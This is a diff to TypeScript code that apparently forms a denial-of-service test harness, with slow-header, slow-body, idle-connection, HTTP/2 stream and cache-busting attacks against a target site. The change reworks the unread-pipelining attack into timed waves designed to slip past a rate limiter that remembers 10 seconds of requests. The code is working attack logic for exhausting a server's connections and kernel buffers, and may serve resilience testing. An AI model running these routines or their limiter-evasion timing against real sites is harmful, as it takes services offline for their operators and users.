@@ -21,11 +21,11 @@ const GET = `GET /products HTTP/1.1\r\nHost: ${SITE}\r\n`;
 
 /** Connections that send nothing. */
 const idleConnections: Attack = (context) =>
-  keepOpen(context, { connections: IDLE_CONNECTIONS }, (socket) => untilClosed(socket, context));
+  keepOpen(context, IDLE_CONNECTIONS, (socket) => untilClosed(socket, context));
 
 /** Requests whose headers come a byte a second and never end. */
 const slowHeaders: Attack = (context) =>
-  keepOpen(context, { connections: CONNECTIONS }, (socket) => {
+  keepOpen(context, CONNECTIONS, (socket) => {
     context.counts.sent += 1;
     socket.write(`${GET}X-Slow: `);
     return untilClosed(socket, context, () => socket.write('a'));
@@ -33,7 +33,7 @@ const slowHeaders: Attack = (context) =>
 
 /** Requests whose body comes a byte a second and never ends. */
 const slowBodies: Attack = (context) =>
-  keepOpen(context, { connections: CONNECTIONS }, (socket) => {
+  keepOpen(context, CONNECTIONS, (socket) => {
     context.counts.sent += 1;
     socket.write(
       `POST /api/beacons HTTP/1.1\r\nHost: ${SITE}\r\nContent-Type: text/plain\r\nContent-Length: 100\r\n\r\n`,
@@ -43,28 +43,50 @@ const slowBodies: Attack = (context) =>
 
 /**
  * Requests one after the other on a connection, whose responses are never read. With the small buffers of the attacker's host (container.ts), about sixty
- * pages fill the kernel of the site. Connections come one by one: all at once, and the limit of requests refuses them before one is full.
+ * pages fill the kernel of the site.
  */
 const PIPELINED = 80;
-const UNREAD = { connections: 60, apartMs: 150 };
+/**
+ * So many connections come one by one, until the limit of requests refuses the rest; the next wave comes when that limit, which looks back for 10 s, has
+ * forgotten those that were served. Whoever asks all the time is refused before a connection is full.
+ */
+const WAVE = { connections: 45, apartMs: 200, everyMs: 14_000 };
 
-const slowReaders: Attack = (context) =>
-  keepOpen(context, UNREAD, (socket) => {
-    context.counts.sent += PIPELINED;
-    socket.write(`${GET}\r\n`.repeat(PIPELINED));
-    socket.pause();
-    return new Promise((resolve) => {
-      const end = (): void => void socket.destroy();
-      context.signal.addEventListener('abort', end, { once: true });
-      // A closed connection is only noticed by reading or writing; this writes.
-      const timer = setInterval(() => socket.write('\r\n'), 1_000);
-      socket.once('close', () => {
-        clearInterval(timer);
-        context.signal.removeEventListener('abort', end);
-        resolve();
-      });
+const slowReaders: Attack = async (context) => {
+  const { signal } = context;
+  const unread: Promise<void>[] = [];
+  // It aborts while this waits.
+  const isOver = (): boolean => signal.aborted;
+  while (!signal.aborted) {
+    const next = pause(WAVE.everyMs, signal);
+    for (let count = 0; count < WAVE.connections && !isOver(); count += 1) {
+      unread.push(leaveUnread(context));
+      await pause(WAVE.apartMs, signal);
+    }
+    await next;
+  }
+  await Promise.all(unread);
+};
+
+/** Resolves when the connection is closed. */
+async function leaveUnread(context: AttackContext): Promise<void> {
+  const socket = await open(context);
+  if (socket === undefined) return;
+  context.counts.sent += PIPELINED;
+  socket.write(`${GET}\r\n`.repeat(PIPELINED));
+  socket.pause();
+  await new Promise<void>((resolve) => {
+    const end = (): void => void socket.destroy();
+    context.signal.addEventListener('abort', end, { once: true });
+    // A closed connection is only noticed by reading or writing; this writes.
+    const timer = setInterval(() => socket.write('\r\n'), 1_000);
+    socket.once('close', () => {
+      clearInterval(timer);
+      context.signal.removeEventListener('abort', end);
+      resolve();
     });
   });
+}
 
 /** Connections over HTTP/2 that open streams: requests without an end, responses that may not be sent, and streams that are reset at once. */
 const SESSIONS = 10;
@@ -158,7 +180,7 @@ const connectionRate: Attack = async (context) => {
 /** Pages under addresses that nobody has asked for: each is fetched from the origin. */
 const cacheBusting: Attack = async (context) => {
   const { counts, signal } = context;
-  await keepOpen(context, { connections: WORKERS }, async (socket) => {
+  await keepOpen(context, WORKERS, async (socket) => {
     while (!signal.aborted && !socket.destroyed) {
       counts.sent += 1;
       const path = `/products?page=1&bust=${String(Math.random()).slice(2)}`;
